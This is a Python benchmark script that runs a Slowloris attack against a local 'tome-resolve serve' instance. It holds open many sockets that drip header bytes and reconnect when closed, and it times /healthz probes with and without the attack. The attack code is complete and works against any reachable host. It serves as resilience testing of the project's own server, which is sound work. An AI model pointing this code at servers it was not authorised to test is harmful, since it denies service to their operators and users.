#!/usr/bin/env python3
"""Slowloris against a running `tome-resolve serve`: /healthz latency while
N sockets drip header bytes, against the same probe with no attack.

Each attacking socket sends the start of a request (`GET /healthz HTTP/1.1`,
`Host`) and then one header byte every --drip seconds, never finishing its
headers; when the server closes it, it reconnects at once. Meanwhile a
probe thread opens a fresh connection for each `GET /healthz` (with
`Connection: close`) and times it to the last byte of the answer.

    python3 Benchmarks/slowloris.py --port 8080 --sockets 1500

prints p50/p99 of the probe first with no attack (--idle seconds), then
under attack (--duration seconds, after --ramp seconds to open the sockets),
and how often the attackers were closed and reconnected. Python 3 standard
library only; raises its own open-file limit as far as the hard limit
allows (the server needs one above its --max-connections too).
"""
import argparse
import asyncio
import resource
import socket
import statistics
import sys
import threading
import time


def percentile(values, fraction):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def probe_once(host, port, timeout):
    """Seconds to a complete /healthz answer on a new connection, or None."""
    start = time.perf_counter()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.settimeout(max(0.001, timeout - (time.perf_counter() - start)))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
            received = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                received += chunk
        if not received.startswith(b"HTTP/1.1 200"):
            return None
        return time.perf_counter() - start
    except OSError:
        return None


def probe(host, port, seconds, interval, timeout):
    """Probes for `seconds`: (latencies, failures)."""
    latencies, failures = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        took = probe_once(host, port, timeout)
        if took is None:
            failures += 1
        else:
            latencies.append(took)
        time.sleep(interval)
    return latencies, failures


class Attack:
    def __init__(self, host, port, drip):
        self.host, self.port, self.drip = host, port, drip
        self.connected = 0
        self.reconnects = 0
        self.stopping = False

    async def socket_loop(self, index):
        first = True
        while not self.stopping:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            if not first:
                self.reconnects += 1
            first = False
            self.connected += 1
            try:
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nX-Drip-%d: " % index)
                await writer.drain()
                while not self.stopping:
                    # Closed by the server: reading returns at once.
                    try:
                        data = await asyncio.wait_for(reader.read(4096), self.drip)
                        if not data:
                            break
                    except asyncio.TimeoutError:
                        pass
                    writer.write(b"a")
                    await writer.drain()
            except (OSError, ConnectionError):
                pass
            finally:
                self.connected -= 1
                writer.close()


def summary(name, latencies, failures):
    if not latencies:
        return f"{name}: no answers ({failures} failed)"
    ms = [1000 * x for x in latencies]
    return (f"{name}: p50 {percentile(ms, 0.5):.2f} ms, p99 {percentile(ms, 0.99):.2f} ms, "
            f"max {max(ms):.2f} ms, mean {statistics.mean(ms):.2f} ms ({len(ms)} answers, {failures} failed)")


async def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--sockets", type=int, default=1500, help="attacking sockets (default 1500)")
    parser.add_argument("--drip", type=float, default=1.0, help="seconds between header bytes (default 1)")
    parser.add_argument("--idle", type=float, default=10, help="seconds of probing with no attack (default 10)")
    parser.add_argument("--ramp", type=float, default=5, help="seconds to open the sockets before probing (default 5)")
    parser.add_argument("--duration", type=float, default=30, help="seconds of probing under attack (default 30)")
    parser.add_argument("--interval", type=float, default=0.05, help="pause between probes (default 0.05 s)")
    parser.add_argument("--timeout", type=float, default=60, help="a probe that takes longer fails (default 60 s)")
    args = parser.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.sockets + 256
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
        if min(wanted, hard) < wanted:
            print(f"warning: open-file limit {hard} < {wanted}", file=sys.stderr)

    loop = asyncio.get_running_loop()
    idle = await loop.run_in_executor(None, probe, args.host, args.port, args.idle, args.interval, args.timeout)
    print(summary("idle", *idle), flush=True)

    attack = Attack(args.host, args.port, args.drip)
    tasks = [asyncio.create_task(attack.socket_loop(i)) for i in range(args.sockets)]
    await asyncio.sleep(args.ramp)
    reconnects_before = attack.reconnects
    started = time.monotonic()
    under = await loop.run_in_executor(None, probe, args.host, args.port, args.duration, args.interval, args.timeout)
    elapsed = time.monotonic() - started
    print(summary(f"under attack ({args.sockets} sockets)", *under), flush=True)
    print(f"attack: {attack.connected} sockets connected at the end, "
          f"{attack.reconnects - reconnects_before} reconnects in {elapsed:.0f} s of probing", flush=True)
    attack.stopping = True
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    asyncio.run(main())
